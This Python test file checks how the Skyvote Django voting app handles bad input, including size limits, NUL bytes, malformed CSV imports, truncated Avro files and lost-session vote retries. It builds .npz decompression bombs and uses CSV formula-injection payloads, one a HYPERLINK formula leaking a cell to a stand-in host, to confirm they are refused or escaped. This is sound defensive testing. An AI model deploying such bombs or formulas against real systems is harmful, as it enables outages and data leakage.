"""What Skyvote promises about bad input: it gets a clear error, and nothing good is lost with it.

* Request bodies over the limit are refused with 413 before anything reads them, the JSON API
  included; uploads to the ingestion endpoints have their own, larger limit.
* A NUL byte in the address is a 400, a body to the JSON API without a content type a 415;
  neither is ever a 500.
* An .npz is checked by its declared sizes before any array is read, and only the arrays ingestion
  needs are read.
* One empty or broken file of an upload fails alone; an Avro file cut short keeps the alerts
  before the cut.
* import_votes reports malformed CSV rows by line, in plain words.
* CSV exports never start a cell with a spreadsheet formula.
* A vote retried after its session cookie was lost gets the stored vote back.
"""

import io
import json
import subprocess
import sys
import uuid
import zipfile
from pathlib import Path

import fastavro
import numpy as np
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from core import ingest
from core.models import Subject
from jobs.models import Job
from labeling.models import Vote

pytestmark = pytest.mark.django_db

REPO = Path(__file__).resolve().parent.parent


class UnreadableStream:
    """A request body that must never be read (its Content-Length alone decides)."""

    def read(self, *args):
        raise AssertionError("the request body was read")

    readline = read


class CountingStream:
    """An endless request body that counts what was read of it."""

    def __init__(self):
        self.read_bytes = 0

    def read(self, size=-1):
        size = 1 << 20 if size is None or size < 0 else size
        self.read_bytes += size
        return b"x" * size

    def readline(self, size=-1):
        return self.read(size)


def vote_body(workflow, subject, **extra) -> dict:
    return {
        "workflow": workflow.pk,
        "subject": subject.pk,
        "answer": "real",
        "idempotency_key": str(uuid.uuid4()),
        **extra,
    }


@pytest.fixture
def api(owner):
    client = APIClient()
    client.force_authenticate(owner)
    return client


def triplets(n: int, seed: int = 0) -> np.ndarray:
    return np.random.default_rng(seed).normal(100, 5, size=(n, 3, 63, 63)).astype(np.float32)


def npy_bytes(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


# --- request bodies over the limit ----------------------------------------------------------------


def test_a_json_body_over_the_limit_is_refused_with_413(settings, workflow, make_subjects):
    settings.SKYVOTE_MAX_REQUEST_BYTES = 4096
    subject = make_subjects(1)[0]
    anonymous = APIClient()
    # A vote padded past the limit: before the limit was enforced, DRF read all of it.
    body = json.dumps(vote_body(workflow, subject, viewport="x" * 8000))
    response = anonymous.post("/api/votes/", body, content_type="application/json")
    assert response.status_code == 413, response.content
    assert "limit" in response.json()["detail"]
    assert not Vote.objects.exists()
    # Under the limit the view answers (whatever it makes of the vote).
    small = anonymous.post("/api/votes/", vote_body(workflow, subject), format="json")
    assert small.status_code != 413


@pytest.mark.parametrize(
    "path",
    [
        "/api/votes/",
        "/api/projects/ztf/exports/",
        "/api/projects/ztf/uploads/",  # JSON to the upload endpoint: the general limit
        "/similarity/api/search/",
        "/p/ztf/rb/vote/",
        "/accounts/login/",
        "/no/such/page/",
    ],
)
def test_a_declared_300_mb_body_is_refused_on_every_endpoint_without_reading_it(api, workflow, path):
    response = api.generic(
        "POST",
        path,
        b"{}",
        content_type="application/json",
        CONTENT_LENGTH=str(300 * 1024 * 1024),
        **{"wsgi.input": UnreadableStream()},
    )
    assert response.status_code == 413
    assert "300 MiB" in response.content.decode()


def test_uploads_have_their_own_larger_limit(settings, api, project, workflow):
    settings.SKYVOTE_MAX_REQUEST_BYTES = 4096
    settings.SKYVOTE_MAX_UPLOAD_BYTES = 2 * 1024 * 1024
    stack = SimpleUploadedFile("stack.npy", npy_bytes(triplets(2)))  # ~95 kB, over the general limit
    upload = api.post(
        reverse("api_uploads", args=[project.slug]), {"workflow": workflow.pk, "files": [stack]}
    )
    assert upload.status_code == 202, upload.content
    # The same size anywhere else is refused.
    stack.seek(0)
    elsewhere = api.post(reverse("api_exports", args=[project.slug]), {"export": "votes", "files": [stack]})
    assert elsewhere.status_code == 413
    # And an upload over its own limit (plus the multipart envelope) too, unread.
    too_big = api.generic(
        "POST",
        reverse("api_uploads", args=[project.slug]),
        b"x",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(4 * 1024 * 1024),
        **{"wsgi.input": UnreadableStream()},
    )
    assert too_big.status_code == 413


def test_a_body_without_content_length_is_never_read(workflow, make_subjects):
    subject = make_subjects(1)[0]
    anonymous = APIClient()
    chunked = CountingStream()
    response = anonymous.generic(
        "POST",
        "/api/votes/",
        json.dumps(vote_body(workflow, subject)).encode(),
        content_type="application/json",
        CONTENT_LENGTH="",
        HTTP_TRANSFER_ENCODING="chunked",
        **{"wsgi.input": chunked},
    )
    assert response.status_code == 411 and chunked.read_bytes == 0
    # Without Content-Length Django reads no body at all (LimitedStream of 0 bytes): nothing to cap.
    unmarked = CountingStream()
    response = anonymous.generic(
        "POST",
        "/api/votes/",
        b"{}",
        content_type="application/json",
        CONTENT_LENGTH="",
        **{"wsgi.input": unmarked},
    )
    assert response.status_code == 400 and unmarked.read_bytes == 0
    assert not Vote.objects.exists()


# --- NUL bytes, missing content types ---------------------------------------------------------


@pytest.mark.parametrize(
    "name, query",
    [
        ("api_projects", "page=%00"),
        ("api_workflows", "ordering=%00"),
        ("api_subject_sets", "workflow=%00"),
        ("api_subjects", "workflow=%00"),
        ("api_subjects", "external_id=%00"),
        ("api_subjects", "object_id=a%00b"),
        ("api_votes", "answer=%00"),
        ("api_skills", "workflow=%00"),
        ("api_model_versions", "status=%00"),
        ("api_similarity_votes", "workflow=%00"),
        ("api_subjects", "%00=1"),
    ],
)
def test_a_nul_byte_in_an_api_query_parameter_is_a_400(api, project, workflow, name, query):
    # On PostgreSQL these reached the database, which cannot store NUL, and failed with a 500.
    args = [] if name == "api_projects" else [project.slug]
    response = api.get(reverse(name, args=args) + "?" + query)
    assert response.status_code == 400, response.content
    assert "NUL" in response.json()["detail"]


@pytest.mark.parametrize(
    "name, query",
    [
        # "²" is a digit to str.isdigit() but not to int(); 10**30 is beyond any id, which the database
        # cannot even compare a foreign key with (SQLite cannot bind it, PostgreSQL rejects it).
        ("api_votes", "subject=%C2%B2"),
        ("api_votes", f"subject={10**30}"),
        ("api_similarity_votes", "task=%C2%B2"),
        ("api_similarity_votes", f"task={10**30}"),
        ("api_subjects", "workflow=%C2%B2"),
        ("api_subjects", f"workflow={10**30}"),
        # Moved to UTC, these dates leave the years 1 to 9999 that Python and the database hold.
        ("api_votes", "created_after=0001-01-01T00:00:00%2B05:00"),
        ("api_subjects", "retired_before=9999-12-31T23:59:59-05:00"),
    ],
)
def test_odd_ids_and_dates_in_api_filters_are_a_400_naming_the_parameter(api, project, workflow, name, query):
    response = api.get(reverse(name, args=[project.slug]) + "?" + query)
    assert response.status_code == 400, response.content
    assert list(response.json()) == [query.split("=")[0]]


def test_odd_subject_ids_in_a_search_are_a_400(api, project, workflow):
    from core.models import Workflow

    Workflow.objects.create(project=project, slug="sim", name="Similar?", kind=Workflow.SIMILARITY)
    for subject in ("²", str(10**30)):
        body = {"project": project.slug, "subject": subject}
        response = api.post(reverse("similarity:api_search"), body, format="json")
        assert response.status_code == 400 and "No subject" in response.json()["detail"], response.content


@pytest.mark.parametrize("path", ["/p/ztf/?q=%00", "/p/ztf/rb/?q=%00", "/p/ztf/rb/volunteers/?page=%00"])
def test_a_nul_byte_in_a_page_query_is_a_400(client, owner, workflow, path):
    client.force_login(owner)
    response = client.get(path)
    assert response.status_code == 400
    assert "NUL" in response.content.decode()


def test_a_post_without_content_type_to_the_json_api_is_a_415(api, project, workflow):
    # The upload endpoint failed with a 500 on a body DRF did not parse into a form.
    for path in (
        "/api/votes/",
        reverse("api_uploads", args=[project.slug]),
        reverse("api_exports", args=[project.slug]),
    ):
        for body in (b"", b'{"workflow": 1}'):
            response = api.generic("POST", path, body, content_type="")
            assert response.status_code == 415, (path, body, response.content)
            assert "Content-Type" in response.json()["detail"]
    empty_json = api.generic(
        "POST", reverse("api_uploads", args=[project.slug]), b"", content_type="application/json"
    )
    assert empty_json.status_code == 400 and "files" in empty_json.json()
    assert not Job.objects.exists()


# --- .npz: declared sizes first, only the needed arrays ----------------------------------------


def write_npz(path: Path, members: dict[str, tuple[np.dtype, tuple, bytes | None]]) -> Path:
    """An .npz written member by member: (dtype, shape, data); data None means zeros, streamed in
    1 MiB pieces so that the test itself never holds a large array."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, (dtype, shape, data) in members.items():
            with archive.open(f"{name}.npy", "w", force_zip64=True) as member:
                header = io.BytesIO()
                np.lib.format.write_array_header_1_0(
                    header, {"descr": np.dtype(dtype).str, "fortran_order": False, "shape": shape}
                )
                member.write(header.getvalue())
                if data is not None:
                    member.write(data)
                    continue
                left = int(np.prod(shape)) * np.dtype(dtype).itemsize
                piece = bytes(1 << 20)
                while left > 0:
                    member.write(piece[: min(left, len(piece))])
                    left -= len(piece)
    return path


def traced_peak(fn) -> tuple[object, int]:
    import tracemalloc

    tracemalloc.start()
    try:
        result = fn()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_npz_members_declaring_more_than_the_limit_are_refused_before_any_is_read(
    settings, project, workflow, tmp_path
):
    settings.SKYVOTE_MAX_DECOMPRESSED_BYTES = 16 * 1024 * 1024
    # Three members of 12 MB of zeros each: a few kB on disk, 36 MB declared.
    bomb = write_npz(
        tmp_path / "bomb.npz", {name: ("<f4", (3_000_000,), None) for name in ("images", "b", "c")}
    )
    assert bomb.stat().st_size < 200_000
    result, peak = traced_peak(lambda: ingest.ingest_file(bomb, project=project, workflow=workflow))
    assert peak < 4 * 1024 * 1024, f"{peak} bytes allocated while refusing the archive"
    assert "over the" in result.error and "limit" in result.error, result.error


def test_npz_header_declaring_more_than_the_member_holds_is_refused_without_allocating(
    project, workflow, tmp_path
):
    # The header claims 5000 triplets (238 MB of float32); the member holds 1 kB.
    liar = write_npz(tmp_path / "liar.npz", {"images": ("<f4", (5000, 3, 63, 63), bytes(1024))})
    result, peak = traced_peak(lambda: ingest.ingest_file(liar, project=project, workflow=workflow))
    assert peak < 4 * 1024 * 1024, f"{peak} bytes allocated for an array that is not there"
    assert "declares" in result.error and "holds 1024 bytes" in result.error, result.error


def test_only_the_npz_arrays_ingestion_needs_are_read(settings, project, workflow, tmp_path):
    settings.SKYVOTE_MAX_DECOMPRESSED_BYTES = 64 * 1024 * 1024
    images = triplets(2)
    path = write_npz(
        tmp_path / "with_extra.npz",
        {
            "images": ("<f4", images.shape, images.tobytes()),
            "ids": ("<i8", (2,), np.array([11, 12], dtype="<i8").tobytes()),
            "unrelated": ("<f8", (5_000_000,), None),  # 40 MB nobody needs
        },
    )
    result, peak = traced_peak(lambda: ingest.ingest_file(path, project=project, workflow=workflow))
    assert result.error == "" and result.ingested == 2
    assert set(Subject.objects.values_list("external_id", flat=True)) == {"11", "12"}
    assert peak < 20 * 1024 * 1024, f"{peak} bytes allocated: the unrelated array was read"


def test_npz_bomb_keeps_a_worker_process_small(tmp_path):
    """The same archive in a fresh process, measured by the OS (maximum resident set size)."""
    # 3 × 100 MB of zeros declared (over the default 256 MiB), about 1.4 MB on disk.
    bomb = write_npz(
        tmp_path / "bomb.npz", {name: ("<f4", (25_000_000,), None) for name in ("images", "b", "c")}
    )
    assert bomb.stat().st_size < 2_000_000
    script = f"""
import resource, sys
from pathlib import Path
import django, os
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "skyvote.settings")
django.setup()
from core import ingest
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    next(ingest.read_numpy(Path({str(bomb)!r}), None))
except ingest.IngestError as exc:
    print("refused:", exc)
print("grew_kib", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=REPO, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    grew_kib = int(done.stdout.rsplit("grew_kib", 1)[1])
    assert grew_kib < 64 * 1024, f"the process grew by {grew_kib} KiB"
    assert "refused:" in done.stdout and "over the" in done.stdout, done.stdout


# --- one bad file fails alone -------------------------------------------------------------------


def test_an_empty_file_in_an_api_upload_fails_alone(
    api, project, workflow, django_capture_on_commit_callbacks
):
    files = [
        SimpleUploadedFile("good.npy", npy_bytes(triplets(2))),
        SimpleUploadedFile("empty.npy", b""),
        SimpleUploadedFile("broken.avro", b"not avro at all"),
    ]
    with django_capture_on_commit_callbacks(execute=True):
        response = api.post(
            reverse("api_uploads", args=[project.slug]), {"workflow": workflow.pk, "files": files}
        )
    assert response.status_code == 202, response.content
    job = api.get(reverse("api_ingest_job", args=[project.slug, response.json()["id"]])).json()
    assert job["status"] == "succeeded" and job["ingested"] == 2 and job["failed"] == 2
    errors = {e["file"]: e["error"] for e in job["errors"]}
    assert "empty file" in errors["empty.npy"] and "not an Avro file" in errors["broken.avro"]


def test_an_empty_file_in_a_page_upload_fails_alone(
    client, owner, project, workflow, django_capture_on_commit_callbacks
):
    client.force_login(owner)
    files = [SimpleUploadedFile("good.npy", npy_bytes(triplets(2))), SimpleUploadedFile("empty.npy", b"")]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("core:upload", args=[project.slug]), {"workflow": workflow.pk, "files": files}
        )
    assert response.status_code == 302, response.content[:500]
    job = Job.objects.get(kind=Job.INGEST)
    result = job.params["result"]
    assert result["ingested"] == 2 and result["failed"] == 1
    assert result["errors"][0]["file"] == "empty.npy" and "empty file" in result["errors"][0]["error"]


def avro_container(ztf_dir: Path, n: int) -> bytes:
    """n alerts (copies of one real ZTF alert under new candids) in one Avro container, one alert
    per block, as an alert stream archive holds them."""
    with open(ztf_dir / "avro" / "472263571115115000.avro", "rb") as handle:
        reader = fastavro.reader(handle)
        schema, alert = reader.writer_schema, next(iter(reader))
    alerts = []
    for i in range(n):
        candid = alert["candid"] + i
        alerts.append({**alert, "candid": candid, "candidate": {**alert["candidate"], "candid": candid}})
    buffer = io.BytesIO()
    fastavro.writer(buffer, fastavro.parse_schema(schema), alerts, sync_interval=1)
    return buffer.getvalue()


def test_an_avro_file_cut_short_keeps_the_alerts_before_the_cut(project, workflow, ztf_dir, tmp_path):
    whole = avro_container(ztf_dir, 3)
    cut = tmp_path / "cut.avro"
    cut.write_bytes(whole[:-5000])  # the third alert loses its end
    good = tmp_path / "good.npy"
    np.save(good, triplets(1, seed=5))
    report = ingest.ingest_paths([cut, good], project=project, workflow=workflow)
    assert report.ingested == 3 and report.failed == 1
    [(name, error)] = report.errors
    assert name == str(cut) and "breaks off after 2 alerts" in error, error
    base = int(Subject.objects.filter(source="avro").order_by("pk").first().external_id)
    assert sorted(Subject.objects.filter(source="avro").values_list("external_id", flat=True)) == [
        str(base),
        str(base + 1),
    ]
    # The whole file, sent again, adds the missing alert and finds the others.
    cut.write_bytes(whole)
    again = ingest.ingest_file(cut, project=project, workflow=workflow)
    assert again.error == "" and again.ingested == 1 and again.duplicates == 2


def test_an_avro_file_broken_before_its_first_alert_fails_whole(project, workflow, ztf_dir, tmp_path):
    whole = avro_container(ztf_dir, 1)
    cut = tmp_path / "cut.avro"
    cut.write_bytes(whole[: len(whole) // 2])
    result = ingest.ingest_file(cut, project=project, workflow=workflow)
    assert "corrupt or truncated Avro data" in result.error and result.ingested == 0
    assert not Subject.objects.exists()


# --- import_votes: malformed CSV, plain words ---------------------------------------------------


@pytest.fixture
def import_subjects(workflow):
    workflow.retirement_limit = 1000
    workflow.save()
    return [
        Subject.objects.create(project=workflow.project, workflow=workflow, external_id=f"ZTF{i:03d}")
        for i in range(1, 13)
    ]


def run_import(path: Path, **options) -> str:
    from django.core.management import call_command

    out = io.StringIO()
    call_command("import_votes", str(path), workflow="rb", stdout=out, **options)
    return out.getvalue()


PYTHON_WORDS = ("Error", "Traceback", "codec", "Expecting", "char ", "position", "delimiter")


def test_import_reports_every_malformed_csv_row_by_line(import_subjects, tmp_path):
    path = tmp_path / "votes.csv"
    path.write_text(
        "subject_external_id,participant,answer\n"  # line 1
        "ZTF001,ann,real\n"  # 2
        'ZTF002,ann,"real\n'  # 3: the quote is never closed on its line ...
        "ZTF003,ann,real\n"
        "ZTF004,ann,bogus\n"
        "ZTF005,ann,real\n"
        'ZTF006,ann,"bogus"\n'  # 7: ... and swallows the lines up to here
        "ZTF007,ann,real\n"  # 8
        "ZTF008,ann,real,extra,fields\n"  # 9: more fields than the header
        'ZTF009,"ann\n'  # 10: a quoted name running on ...
        'ZTF010,bob",real\n'  # 11: ... into the next row, with the right field count
        "ZTF011,bob,bogus\n"  # 12
    )
    out = run_import(path)
    assert "votes imported: 3" in out  # lines 2, 8 and 12
    assert sorted(Vote.objects.values_list("subject__external_id", flat=True)) == [
        "ZTF001",
        "ZTF007",
        "ZTF011",
    ]
    assert "rows read: 11" in out
    assert "malformed CSV rows: 3 (8 lines not imported):" in out
    assert "lines 3-7: a quote is not closed, or text follows a closing quote" in out
    assert "line 9: 5 fields where 3 were expected" in out
    assert "lines 10-11: a quoted field runs over several lines" in out
    assert not any(word in out for word in PYTHON_WORDS), out
    from django.core.management import CommandError

    with pytest.raises(CommandError, match="8 rows were not imported"):
        run_import(path, strict=True)


def test_import_of_a_zooniverse_export_with_broken_json_says_so_in_words(import_subjects, tmp_path):
    header = "classification_id,user_name,user_id,workflow_id,created_at,annotations,subject_data,subject_ids"
    good = (
        '1,alice,,123,2019-03-01 12:34:56 UTC,"[{""task"": ""T0"", ""value"": ""Real""}]",'
        '"{""9001"": {""candid"": ""ZTF001""}}",9001'
    )
    broken = '2,bob,,123,2019-03-01 12:35:56 UTC,"[{""task"": ""T0"", ""value"": ","{}",9001'
    path = tmp_path / "classifications.csv"
    path.write_text("\n".join([header, good, broken]) + "\n")
    out = run_import(path)
    assert "votes imported: 1" in out
    assert "line 3: the annotations column is not valid JSON" in out
    assert not any(word in out for word in PYTHON_WORDS), out


def test_import_of_a_file_that_is_not_utf8_names_the_line_in_words(import_subjects, tmp_path):
    from django.core.management import CommandError

    path = tmp_path / "latin1.csv"
    path.write_bytes(
        "subject_external_id,participant,answer\nZTF001,ann,real\nZTF002,Zoë,real\n".encode("latin-1")
    )
    with pytest.raises(CommandError) as refused:
        run_import(path)
    message = str(refused.value)
    assert "not UTF-8 text" in message and "line 3" in message
    assert not any(word in message for word in PYTHON_WORDS), message
    assert not Vote.objects.exists()


# --- a vote retried after its session cookie was lost ---------------------------------------------


def served_form(html: str) -> dict:
    """What the classify page's form sends with an answer: the subject, its ticket and the key."""
    import re

    return {
        name: re.search(rf'name="{name}" value="([^"]*)"', html).group(1)
        for name in ("subject", "ticket", "key")
    }


def first_vote_then_lost_cookie(client, workflow, make_subjects):
    """An anonymous volunteer votes on the page; the answer (with its cookie) never comes back."""
    make_subjects(3)
    html = client.get(reverse("labeling:classify", args=[workflow.project.slug, workflow.slug])).content
    form = served_form(html.decode())
    url = reverse("labeling:submit_vote", args=[workflow.project.slug, workflow.slug])
    first = client.post(url, {**form, "answer": "real"}, HTTP_HX_REQUEST="true")
    assert first.status_code == 200 and Vote.objects.count() == 1
    return url, form, Vote.objects.get()


def test_a_page_vote_retried_without_its_session_cookie_gets_the_stored_vote(client, workflow, make_subjects):
    from django.test import Client

    url, form, stored = first_vote_then_lost_cookie(client, workflow, make_subjects)
    retry = Client().post(url, {**form, "answer": "real"}, HTTP_HX_REQUEST="true")
    assert retry.status_code == 200, retry.content.decode()[:500]
    assert "already used" not in retry.content.decode()
    # One vote, still its first participant's.
    assert list(Vote.objects.values_list("pk", "participant_id")) == [(stored.pk, stored.participant_id)]


def test_a_json_vote_retried_without_its_session_cookie_gets_the_stored_vote(client, workflow, make_subjects):
    url, form, stored = first_vote_then_lost_cookie(client, workflow, make_subjects)
    body = {
        "workflow": workflow.pk,
        "subject": int(form["subject"]),
        "answer": "real",
        "idempotency_key": form["key"],
        "ticket": form["ticket"],
    }
    retry = APIClient().post("/api/votes/", body, format="json")
    assert retry.status_code == 200, retry.content
    assert retry.json()["id"] == stored.pk and retry.json()["created"] is False
    assert list(Vote.objects.values_list("pk", "participant_id")) == [(stored.pk, stored.participant_id)]


def test_a_key_retried_with_another_answer_or_by_someone_with_votes_is_still_refused(
    client, workflow, make_subjects
):
    from django.test import Client

    url, form, stored = first_vote_then_lost_cookie(client, workflow, make_subjects)
    other_answer = APIClient().post(
        "/api/votes/",
        {
            "workflow": workflow.pk,
            "subject": int(form["subject"]),
            "answer": "bogus",
            "idempotency_key": form["key"],
        },
        format="json",
    )
    assert other_answer.status_code == 400 and "already used" in other_answer.json()["detail"]
    # A volunteer with votes of their own is not a lost session: the key is someone else's.
    volunteer = Client()
    html = volunteer.get(reverse("labeling:classify", args=[workflow.project.slug, workflow.slug])).content
    own = served_form(html.decode())
    assert volunteer.post(url, {**own, "answer": "bogus"}, HTTP_HX_REQUEST="true").status_code == 200
    reused = volunteer.post(url, {**form, "answer": "real"}, HTTP_HX_REQUEST="true")
    assert reused.status_code == 400 and "already used" in reused.content.decode()
    assert Vote.objects.filter(pk=stored.pk, participant_id=stored.participant_id).exists()
    assert Vote.objects.count() == 2


# --- CSV exports never start a cell with a formula -----------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.org","x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_csv_writer_escapes_text_cells_that_start_a_formula_and_keeps_numbers(tmp_path):
    import csv

    from core.exporters import Column, CsvWriter

    columns = [Column("text", "str"), Column("x", "float"), Column("n", "int"), Column("plain", "str")]
    path = tmp_path / "cells.csv"
    writer = CsvWriter(path, columns)
    writer.write([(formula, -0.5, -3, "fine - text") for formula in FORMULAS])
    writer.close()
    rows = list(csv.DictReader(open(path, newline="", encoding="utf-8")))
    assert [row["text"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert {(row["x"], row["n"], row["plain"]) for row in rows} == {("-0.5", "-3", "fine - text")}


def test_votes_csv_export_escapes_a_volunteers_user_agent(project, workflow, make_subjects, tmp_path):
    import csv

    from core import exporters
    from core.models import Participant

    subject = make_subjects(1)[0]
    participant = Participant.objects.create(kind=Participant.ANONYMOUS)
    Vote.objects.create(
        workflow=workflow,
        subject=subject,
        participant=participant,
        answer="real",
        user_agent='=HYPERLINK("http://example.org/?leak="&A1,"click")',
        viewport="@1280x800",
    )
    path = tmp_path / "votes.csv"
    exporters.exporter("votes").run(project, path, "csv", workflow=None, params={})
    [row] = list(csv.DictReader(open(path, newline="", encoding="utf-8")))
    assert row["user_agent"] == '\'=HYPERLINK("http://example.org/?leak="&A1,"click")'
    assert row["viewport"] == "'@1280x800"
    assert row["answer"] == "real" and int(row["subject_id"]) == subject.pk


def test_payment_csv_escapes_worker_ids_that_start_a_formula(client, owner, workflow):
    import csv

    from panels import services as tasklinks
    from tests.tasklinks_support import make_batch
    from tests.tasklinks_support import make_subjects as make_panel_subjects

    make_panel_subjects(workflow, n_ordinary=6, n_gold=2)
    batch = make_batch(workflow, owner, tasks_per_assignment=3, n_assignments=3)
    for worker_id in ("-2+3", "@A1", "W1"):  # characters worker ids may have
        tasklinks.start_assignment(batch, worker_id)
    client.force_login(owner)
    response = client.get(reverse("panels:batch_csv", args=[workflow.project.slug, batch.pk]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(row["worker_id"] for row in rows) == ["'-2+3", "'@A1", "W1"]
    assert {row["tasks_total"] for row in rows} == {"3"}
